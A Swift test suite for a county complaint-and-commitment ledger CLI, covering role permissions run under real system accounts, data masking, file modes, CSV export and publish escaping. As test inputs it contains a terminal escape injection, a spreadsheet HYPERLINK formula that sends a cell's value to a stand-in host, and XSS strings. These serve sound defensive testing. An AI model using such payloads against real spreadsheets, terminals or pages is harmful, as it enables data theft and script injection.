import Foundation
import JiannuoTestSupport
import Testing

/// Who may do what, with real system accounts: each role of the table tried both ways, run as that
/// account (`runuser`), on one ledger shared through a group and a setgid directory, as the README
/// sets it up. CI runs as root, which these tests need to create accounts.
@Suite("CLI: accounts, roles and personal data", .serialized) struct RoleTests {
    static let group = "jiannuotest"
    static let accounts: [(String, String, String?)] = [   // account, role, department
        ("jnintake", "intake", nil), ("jnsuper", "supervisor", nil), ("jnliaison", "liaison", "FGW"),
        ("jnleader", "leader", nil), ("jnadmin", "admin", nil),
    ]

    /// A shared ledger in a setgid directory, the binary copied beside it (any account can run it).
    final class Shared: @unchecked Sendable {
        let dir: String
        let bin: String
        var db: String { dir + "/ledger.sqlite" }

        init() throws {
            try #require(getuid() == 0, "these tests create system accounts: run them as root (CI does)")
            func sh(_ cmd: String) throws {
                let (s, _, e) = try runProcess("/bin/sh", ["-c", cmd], home: "/tmp")
                try #require(s == 0, "\(cmd): \(e)")
            }
            try sh("getent group \(RoleTests.group) >/dev/null || groupadd \(RoleTests.group)")
            for (a, _, _) in RoleTests.accounts + [("jnnorole", "", nil)] {
                try sh("id -u \(a) >/dev/null 2>&1 || useradd -M -N -g \(RoleTests.group) -s /bin/sh \(a)")
            }
            dir = "/tmp/jiannuo-roles-\(UUID().uuidString)"
            let built = try jiannuoBinary()
            let builtDir = (built as NSString).deletingLastPathComponent
            try sh("mkdir -p \(dir)/bin && cp \(built) \(dir)/bin/ && cp -r \(builtDir)/*.resources \(dir)/bin/ 2>/dev/null; chmod -R a+rX \(dir)/bin")
            try sh("chgrp \(RoleTests.group) \(dir) && chmod 2770 \(dir) && chmod 755 \(dir)/bin")
            bin = dir + "/bin/jiannuo"
        }
        deinit { try? FileManager.default.removeItem(atPath: dir) }

        /// `jiannuo ARGS --db DB` as `account` (nil: root, the ledger's first admin).
        @discardableResult
        func run(_ account: String?, _ args: [String], env: [String: String] = [:]) throws -> Run {
            let full = args + ["--db", db]
            let (s, o, e): (Int32, String, String)
            if let account {
                (s, o, e) = try runProcess("/usr/sbin/runuser", ["-u", account, "--", bin] + full, home: dir, extraEnv: env)
            } else {
                (s, o, e) = try runProcess(bin, full, home: dir, extraEnv: env)
            }
            return Run(args: [account ?? "root"] + args, status: s, stdout: o, stderr: e)
        }

        @discardableResult
        func ok(_ account: String?, _ args: [String]) throws -> [String: Any] {
            let r = try run(account, args + ["--json"])
            try #require(r.status == 0, "\(r)")
            return try r.object()
        }

        func dump() throws -> String {
            let (s, o, e) = try runProcess(try executable("sqlite3"), [db, ".dump"], home: dir)
            try #require(s == 0, "\(e)")
            return o
        }
    }

    /// A ledger with two units, accounts for every role, and records for each of them to act on.
    func ledger() throws -> Shared {
        let s = try Shared()
        try #require(try s.run(nil, ["init"]).status == 0)
        try s.ok(nil, ["department", "add", "--code", "FGW", "--name", "县发改委", "--kind", "county-department"])
        try s.ok(nil, ["department", "add", "--code", "CZJ", "--name", "县财政局", "--kind", "county-department"])
        for (a, role, dept) in RoleTests.accounts {
            try s.ok(nil, ["user", "add", a, "--name", "测试\(role)", "--role", role] + (dept.map { ["--department", $0] } ?? []))
        }
        return s
    }

    func complaint(_ s: Shared, _ dept: String = "FGW", stage: String = "received") throws -> String {
        let id = try s.ok(nil, ["complaint", "add", "--channel", "hotline", "--department", dept, "--content", "测试件",
                                "--contact", "13812345678", "--complainant", "张三", "--category", "3"])["id"] as! String
        if stage == "received" { return id }
        try s.ok(nil, ["complaint", "accept", id])
        if stage == "accepted" { return id }
        try s.ok(nil, ["complaint", "resolve", id, "--result", "已办"])
        if stage == "resolved" { return id }
        try s.ok(nil, ["complaint", "respond", id, "--text", "已告知"])
        return id
    }

    func commitment(_ s: Shared, _ dept: String = "FGW") throws -> String {
        let today = ISO8601DateFormatter.string(from: Date(), timeZone: TimeZone(identifier: "Asia/Shanghai")!, formatOptions: [.withFullDate])
        return try s.ok(nil, ["commitment", "add", "--department", dept, "--category", "1", "--kind", "policy", "--counterparty", "某企业",
                              "--content", "奖补", "--made", today, "--deadline", "2100-12-31"])["id"] as! String
    }

    /// A complaint of FGW received ten days ago and never accepted: something a letter must list.
    func overdueComplaint(_ s: Shared) throws -> String {
        try s.ok(nil, ["complaint", "add", "--channel", "hotline", "--department", "FGW", "--content", "久未受理",
                       "--received", "\(Self.officeDay(-10)) 09:00"])["id"] as! String
    }

    func breach(_ s: Shared) throws -> String {
        let c = try complaint(s, stage: "accepted")
        return try s.ok(nil, ["complaint", "verify", c, "--breach", "yes", "--finding", "属实"])["id"] as! String
    }

    /// The role table, row by row: what each permission's command is, on a fresh record of FGW.
    func rows() -> [(String, [String], (Shared) throws -> [String])] {
        [
            ("complaint.add", ["intake", "supervisor", "admin"], { _ in ["complaint", "add", "--channel", "phone", "--department", "FGW", "--content", "x"] }),
            ("complaint.accept", ["intake", "supervisor", "liaison", "admin"], { s in ["complaint", "accept", try self.complaint(s)] }),
            ("complaint.return", ["intake", "supervisor", "liaison", "admin"], { s in ["complaint", "return", try self.complaint(s), "--to", "CZJ", "--reason", "错派"] }),
            ("complaint.followup", ["intake", "supervisor", "admin"], { s in ["complaint", "followup", try self.complaint(s, stage: "responded"), "--satisfied", "yes"] }),
            ("complaint.resolve", ["liaison", "supervisor", "admin"], { s in ["complaint", "resolve", try self.complaint(s, stage: "accepted"), "--result", "已办"] }),
            ("complaint.respond", ["liaison", "supervisor", "admin"], { s in ["complaint", "respond", try self.complaint(s, stage: "resolved"), "--text", "已告知"] }),
            ("complaint.extend", ["supervisor", "admin"], { s in ["complaint", "extend", try self.complaint(s, stage: "accepted"), "--days", "2", "--reason", "协调"] }),
            ("complaint.verify", ["supervisor", "admin"], { s in ["complaint", "verify", try self.complaint(s, stage: "accepted"), "--breach", "no", "--finding", "不属实"] }),
            ("commitment.add", ["supervisor", "admin"], { _ in ["commitment", "add", "--department", "FGW", "--category", "1", "--kind", "policy", "--counterparty", "某企业", "--content", "x", "--made", "2026-01-05", "--deadline", "2027-01-05"] }),
            ("commitment.amend", ["supervisor", "admin"], { s in ["commitment", "amend", try self.commitment(s), "--deadline", "2100-06-30", "--reason", "r", "--legal-basis", "b", "--approver", "p"] }),
            ("commitment.progress", ["liaison", "admin"], { s in ["commitment", "progress", try self.commitment(s), "--percent", "10"] }),
            ("commitment.fulfill", ["liaison", "admin"], { s in ["commitment", "fulfill", try self.commitment(s)] }),
            ("commitment.feedback", ["liaison", "admin"], { s in ["commitment", "feedback", try self.commitment(s), "--text", "已说明"] }),
            ("breach.report", ["supervisor", "admin"], { s in ["breach", "report", try self.breach(s)] }),
            ("rectification.add", ["supervisor", "admin"], { s in ["rectification", "add", try self.breach(s), "--unit", "FGW", "--measures", "整改", "--deadline", "2100-01-01"] }),
            ("accountability.add", ["supervisor", "admin"], { s in ["accountability", "add", try self.breach(s), "--target", "某人", "--kind", "约谈"] }),
            ("opinion.add", ["supervisor", "admin"], { _ in ["opinion", "add", "--department", "FGW", "--title", "网帖", "--source", "微博"] }),
            ("contact.reveal", ["leader", "admin"], { s in ["complaint", "show", try self.complaint(s), "--reveal"] }),
            ("department.change", ["admin"], { _ in ["department", "add", "--code", "X\(Int.random(in: 1000...9999))", "--name", "新单位", "--kind", "other"] }),
            ("calendar.change", ["admin"], { _ in ["calendar", "add-holiday", "2100-06-0\(Int.random(in: 1...9))"] }),
            ("backup", ["admin"], { s in ["backup", s.dir + "/backup-\(UUID().uuidString).sqlite"] }),
            // A system account every Debian machine has (an account the system does not know is refused: 66).
            ("user.manage", ["admin"], { _ in ["user", "add", "daemon", "--name", "某", "--role", "leader"] }),
            ("opinion.handle", ["supervisor", "admin"], { s in
                let o = try s.ok(nil, ["opinion", "add", "--department", "FGW", "--title", "网帖", "--source", "微博"])["id"] as! String
                return ["opinion", "handle", o, "--note", "已回应"]
            }),
            ("rectification.done", ["supervisor", "liaison", "admin"], { s in
                let z = try s.ok(nil, ["rectification", "add", try self.breach(s), "--unit", "FGW", "--measures", "整改", "--deadline", "2100-01-01"])
                return ["rectification", "done", z["id"] as! String]
            }),
            ("rules.apply", ["admin"], { s in
                let file = s.dir + "/rules-\(UUID().uuidString).toml"
                try "[deadlines]\naccept_workdays = 2\n".write(toFile: file, atomically: true, encoding: .utf8)
                chmod(file, 0o644)
                return ["rules", "apply", file]
            }),
            ("import", ["admin"], { s in
                let file = s.dir + "/d-\(UUID().uuidString).csv"
                try "code,name,kind,active,successor,merged_on\nN\(Int.random(in: 1000...9999)),新单位,other,yes,,\n".write(toFile: file, atomically: true, encoding: .utf8)
                chmod(file, 0o644)
                return ["import", "departments", file]
            }),
            ("write.other-day", ["admin"], { _ in ["opinion", "add", "--department", "FGW", "--title", "补录", "--source", "微博", "--today", "2026-03-02"] }),
            ("difficulty.add", ["supervisor", "liaison", "admin"], { s in ["difficulty", "add", try self.commitment(s), "--text", "资金未到位"] }),
            ("difficulty.answer", ["supervisor", "leader", "admin"], { s in
                let d = try s.ok(nil, ["difficulty", "add", try self.complaint(s), "--text", "需协调"])["id"] as! String
                return ["difficulty", "answer", d, "--text", "已协调"]
            }),
            ("difficulty.refer", ["leader", "admin"], { s in
                let d = try s.ok(nil, ["difficulty", "add", try self.complaint(s), "--text", "需协调"])["id"] as! String
                return ["difficulty", "answer", d, "--to-leadership"]
            }),
            ("report.issue", ["supervisor", "leader", "admin"], { _ in ["report", "--issue", "-o", "/tmp/jn-bulletin-\(UUID().uuidString).md"] }),
            ("letter.issue", ["supervisor", "admin"], { s in
                _ = try self.overdueComplaint(s)
                return ["letter", "FGW", "-o", "/tmp/jn-letter-\(UUID().uuidString).html"]
            }),
            ("letter.reply", ["supervisor", "liaison", "admin"], { s in
                _ = try self.overdueComplaint(s)
                let l = try s.ok(nil, ["letter", "FGW", "-o", "/tmp/jn-letter-\(UUID().uuidString).md"])
                return ["letter", "reply", l["id"] as? String ?? "", "--text", "已办理"]
            }),
            ("read", ["intake", "supervisor", "liaison", "leader", "admin"], { _ in ["status"] }),
        ]
    }

    @Test("every row of the role table, both ways: allowed, or refused with 77 naming who may, and nothing written")
    func roleTable() throws {
        let s = try ledger()
        for (permission, allowed, make) in rows() {
            for (account, role, _) in RoleTests.accounts {
                let args = try make(s)
                let before = try s.dump()
                let r = try s.run(account, args)
                if allowed.contains(role) {
                    #expect(r.status == 0, "\(permission) as \(role) should be allowed: \(r)")
                } else {
                    #expect(r.status == 77, "\(permission) as \(role) should be refused: \(r)")
                    #expect(r.stderr.contains("无权") || r.stderr.contains("联络员"), "\(r.stderr)")
                    #expect(try s.dump() == before, "\(permission) refused for \(role) but something was written")
                }
            }
        }
        // The audit rows name the system account that acted.
        let log = try s.run(nil, ["audit", "list", "--limit", "200", "--json"]).array()
        #expect(log.contains { $0["operator"] as? String == "jnliaison" })
        #expect(log.contains { $0["operator"] as? String == "jnsuper" })
    }

    @Test("a liaison sees and changes only its own unit; another unit's record is 77, not 66")
    func liaisonConfined() throws {
        let s = try ledger()
        let own = try complaint(s, "FGW", stage: "accepted")
        let other = try complaint(s, "CZJ", stage: "accepted")
        let otherCommitment = try commitment(s, "CZJ")
        let list = try s.run("jnliaison", ["complaint", "list", "--json"]).array()
        #expect(list.map { $0["department"] as? String } .allSatisfy { $0 == "FGW" } && !list.isEmpty)
        #expect(try s.run("jnliaison", ["complaint", "show", other]).status == 77)
        #expect(try s.run("jnliaison", ["complaint", "list", "--department", "CZJ"]).status == 77)
        #expect(try s.run("jnliaison", ["commitment", "show", otherCommitment]).status == 77)
        let before = try s.dump()
        #expect(try s.run("jnliaison", ["complaint", "resolve", other, "--result", "x"]).status == 77)
        #expect(try s.run("jnliaison", ["commitment", "progress", otherCommitment, "--percent", "5"]).status == 77)
        #expect(try s.dump() == before)
        #expect(try s.run("jnliaison", ["complaint", "resolve", own, "--result", "已办"]).status == 0)
        #expect(try s.run("jnliaison", ["department", "show", "CZJ"]).status == 77)
        #expect(try s.run("jnliaison", ["audit", "list"]).status == 77)
        let alerts = try s.run("jnliaison", ["alerts", "--json"]).array()
        #expect(alerts.allSatisfy { $0["department"] as? String == "FGW" })
        let export = try s.run("jnliaison", ["export", "complaints", "--format", "json"]).stdout
        #expect(!export.contains(other) && export.contains(own))
        #expect(try s.run("jnliaison", ["complaint", "show", own, "--reveal"]).status == 77)
        let screen = try s.run("jnliaison", ["render", "--width", "120", "--height", "30"]).stdout
        #expect(!screen.contains(other), "the liaison's panes hold only its unit")
        // Its status counts its own unit's records, not the county's.
        let mine = try s.run("jnliaison", ["status", "--json"]).object()["summary"] as? [String: Any]
        let county = try s.run(nil, ["status", "--json"]).object()["summary"] as? [String: Any]
        func complaints(_ o: [String: Any]?) -> Int { (o?["complaints_by_stage"] as? [String: Int] ?? [:]).values.reduce(0, +) }
        #expect(complaints(mine) == list.count, "\(String(describing: mine))")
        #expect(complaints(county) > complaints(mine))
        #expect(mine?["departments"] as? Int == 1)
    }

    @Test("the actor is the system account: --operator must name it; an account without a role runs only whoami")
    func identity() throws {
        let s = try ledger()
        let r = try s.run("jnsuper", ["status", "--operator", "县委书记"])
        #expect(r.status == 64 && r.stderr.contains("系统账号"), "\(r)")
        #expect(try s.run("jnsuper", ["status", "--operator", "jnsuper"]).status == 0)
        let evil = try s.run("jnsuper", ["status", "--operator", "\u{1B}]0;pwned\u{07}"])
        #expect(evil.status == 64 && !evil.stderr.contains("\u{1B}"), "control characters are shown, not sent")
        #expect(try s.run("jnnorole", ["status"]).status == 77)
        #expect(try s.run("jnnorole", ["complaint", "list"]).status == 77)
        let who = try s.run("jnnorole", ["whoami"])
        #expect(who.status == 0 && who.stdout.contains("没有启用的角色"), "\(who)")
        #expect(try s.run("jnsuper", ["whoami"]).stdout.contains("督查员"))
        try s.ok(nil, ["user", "disable", "jnsuper"])
        #expect(try s.run("jnsuper", ["status"]).status == 77)
        #expect(try s.run(nil, ["user", "list", "--json"]).array().contains { $0["account"] as? String == "jnsuper" && $0["active"] as? Bool == false })
        // Writing under another day is for admins.
        #expect(try s.run("jnintake", ["complaint", "add", "--channel", "phone", "--department", "FGW", "--content", "x", "--today", "2026-03-02"]).status == 77)
        #expect(try s.run(nil, ["audit", "verify"]).status == 0)
    }

    @Test("no full mobile number in any output without --reveal; a reveal is audited")
    func masking() throws {
        let s = try Shared()
        try #require(try s.run(nil, ["demo", "--today", "2026-11-20"]).status == 0)
        let id = try s.run(nil, ["complaint", "list", "--limit", "1", "--json", "--today", "2026-11-20"]).array().first?["id"] as? String ?? ""
        let commands: [[String]] = [
            ["complaint", "list"], ["complaint", "list", "--json"], ["complaint", "show", id], ["complaint", "show", id, "--json"],
            ["export", "complaints"], ["export", "complaints", "--format", "json"], ["audit", "list", "--limit", "500", "--json"],
            ["audit", "list"], ["status"], ["alerts", "--json"], ["render", "--width", "200", "--height", "60"],
        ]
        // A mobile number stands alone: eleven digits inside a 64-digit hex hash are not one.
        let mobile = try NSRegularExpression(pattern: "(?<![0-9a-f])1[3-9][0-9]{9}(?![0-9a-f])")
        for c in commands {
            let r = try s.run(nil, c + ["--today", "2026-11-20"])
            #expect(r.status == 0, "\(c): \(r)")
            let hits = mobile.numberOfMatches(in: r.stdout, range: NSRange(r.stdout.startIndex..., in: r.stdout))
            #expect(hits == 0, "\(c) printed \(hits) full mobile numbers")
        }
        let revealed = try s.run(nil, ["export", "complaints", "--reveal", "--format", "json", "--today", "2026-11-20"])
        #expect(mobile.numberOfMatches(in: revealed.stdout, range: NSRange(revealed.stdout.startIndex..., in: revealed.stdout)) > 100)
        let log = try s.run(nil, ["audit", "list", "--limit", "1", "--json", "--today", "2026-11-20"]).array()
        #expect(log.first?["action"] as? String == "complaint.reveal" && (log.first?["after"] as? String)?.contains("records") == true)
        // A reveal that cannot be audited (a read-only opening) reveals nothing: no file, no row.
        let rows = try s.run(nil, ["audit", "list", "--json", "--today", "2026-11-20"]).array().count
        let out = s.dir + "/revealed.csv"
        let refused = try s.run(nil, ["export", "complaints", "--reveal", "--read-only", "-o", out, "--today", "2026-11-20"])
        #expect(refused.status != 0 && !FileManager.default.fileExists(atPath: out), "\(refused)")
        #expect(mobile.numberOfMatches(in: refused.stdout, range: NSRange(refused.stdout.startIndex..., in: refused.stdout)) == 0)
        #expect(try s.run(nil, ["audit", "list", "--json", "--today", "2026-11-20"]).array().count == rows)
    }

    @Test("new files have no permissions for others under umask 022")
    func fileModes() throws {
        let s = try Shared()
        try #require(try s.run(nil, ["init"]).status == 0)
        try s.ok(nil, ["department", "add", "--code", "FGW", "--name", "县发改委", "--kind", "county-department"])
        #expect(try s.run(nil, ["export", "departments", "-o", s.dir + "/e.csv"]).status == 0)
        #expect(try s.run(nil, ["backup", s.dir + "/b.sqlite"]).status == 0)
        #expect(try s.run(nil, ["publish", "-o", s.dir + "/p.html"]).status == 0)
        for f in ["ledger.sqlite", "ledger.sqlite-wal", "ledger.sqlite-shm", "e.csv", "b.sqlite", "p.html"] {
            let mode = try #require(try FileManager.default.attributesOfItem(atPath: s.dir + "/" + f)[.posixPermissions] as? Int, "\(f)")
            #expect(mode & 0o007 == 0, "\(f) is \(String(mode, radix: 8))")
        }
        let e = try FileManager.default.attributesOfItem(atPath: s.dir + "/e.csv")[.posixPermissions] as? Int
        #expect(e == 0o600)
    }

    @Test("formula-like cells open as text in a spreadsheet and round-trip")
    func formulas() throws {
        let cli = try CLI(today: "2026-03-02")
        try cli.ok(["department", "add", "--code", "FGW", "--name", "县发改委", "--kind", "county-department"])
        for party in ["=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "+1", "-2", "@SUM(A1)", "'=quoted"] {
            try cli.ok(["commitment", "add", "--department", "FGW", "--category", "1", "--kind", "policy", "--counterparty=\(party)",
                        "--content", "x", "--made", "2026-01-05", "--deadline", "2027-01-05"])
        }
        let first = cli.path("c.csv"), again = cli.path("c2.csv"), other = cli.path("o.sqlite")
        #expect(try cli.run(["export", "commitments", "-o", first]).status == 0)
        let text = try String(contentsOfFile: first, encoding: .utf8)
        for cell in text.split(separator: "\n").dropFirst().flatMap({ $0.split(separator: ",", omittingEmptySubsequences: false) }) {
            let c = cell.hasPrefix("\"") ? cell.dropFirst() : cell[...]
            #expect(!["=", "+", "-", "@"].contains(c.first.map(String.init) ?? ""), "a cell starts like a formula: \(cell)")
        }
        #expect(text.contains("'=HYPERLINK"))
        #expect(try cli.run(["init"], db: other).status == 0)
        #expect(try cli.run(["export", "departments", "-o", cli.path("d.csv")]).status == 0)
        #expect(try cli.run(["import", "departments", cli.path("d.csv")], db: other).status == 0)
        #expect(try cli.run(["import", "commitments", first], db: other).status == 0)
        #expect(try cli.run(["export", "commitments", "-o", again], db: other).status == 0)
        #expect(FileManager.default.contents(atPath: first) == FileManager.default.contents(atPath: again))
        let list = try cli.run(["commitment", "list", "--json"], db: other).array().compactMap { $0["counterparty"] as? String }
        #expect(Set(list) == ["=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "+1", "-2", "@SUM(A1)", "'=quoted"])
    }

    @Test("publish masks identity and mobile numbers in free text and escapes Markdown")
    func publishSafe() throws {
        let cli = try CLI(today: "2026-03-02")
        try cli.ok(["department", "add", "--code", "FGW", "--name", "县发改委", "--kind", "county-department"])
        try cli.ok(["commitment", "add", "--department", "FGW", "--category", "1", "--kind", "policy",
                    "--counterparty", "张三（身份证110101199003077777，电话13912345678）",
                    "--content", "<img src=x onerror=alert(1)> [点我](javascript:alert(1)) **粗**", "--made", "2026-01-05", "--deadline", "2027-01-05"])
        #expect(try cli.run(["publish", "-o", cli.path("p.md")]).status == 0)
        let md = try String(contentsOfFile: cli.path("p.md"), encoding: .utf8)
        #expect(!md.contains("110101199003077777") && !md.contains("13912345678"))
        #expect(!md.contains("<img") && !md.contains("](javascript") && !md.contains("**粗**"), "\(md)")
    }
}

extension ISO8601DateFormatter {
    static func string(from d: Date, timeZone: TimeZone, formatOptions: Options) -> String {
        let f = ISO8601DateFormatter()
        f.timeZone = timeZone
        f.formatOptions = formatOptions
        return f.string(from: d)
    }
}
